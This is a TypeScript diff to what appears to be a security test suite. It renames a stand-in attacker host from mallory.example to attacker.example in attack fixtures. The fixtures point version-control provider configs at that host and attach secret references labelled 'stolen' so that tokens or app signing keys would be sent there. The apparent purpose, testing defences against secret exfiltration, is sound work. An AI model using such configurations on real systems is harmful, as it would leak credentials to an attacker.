@@ -36,7 +36,7 @@ function job(config: object) {
 
 const stolen = { name: 'stolen' }
 const recipient = 'age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p'
-const https = 'https://mallory.example/repository.git'
+const https = 'https://attacker.example/repository.git'
 
 function namesStolen(template: string): boolean {
   return template.includes('"stolen"')
@@ -146,7 +146,7 @@ export const attacks: readonly Attack[] = [
     ...{ kind: 'VersionControlProvider', reach: 'Secrets', gives: 'a token, sent to any API' },
     spec: {
       provider: 'github',
-      apiBaseUrl: 'https://mallory.example/api',
+      apiBaseUrl: 'https://attacker.example/api',
       auth: { method: 'token', token: { secretRef: { ...stolen, key: 'token' } } },
     },
   },
@@ -154,7 +154,7 @@ export const attacks: readonly Attack[] = [
     ...{ kind: 'VersionControlProvider', reach: 'Secrets', gives: 'the signature of an app' },
     spec: {
       provider: 'github',
-      apiBaseUrl: 'https://mallory.example/api',
+      apiBaseUrl: 'https://attacker.example/api',
       auth: {
         method: 'app',
         app: { appId: 1, installationId: 2, privateKeySecretRef: { ...stolen, key: 'token' } },
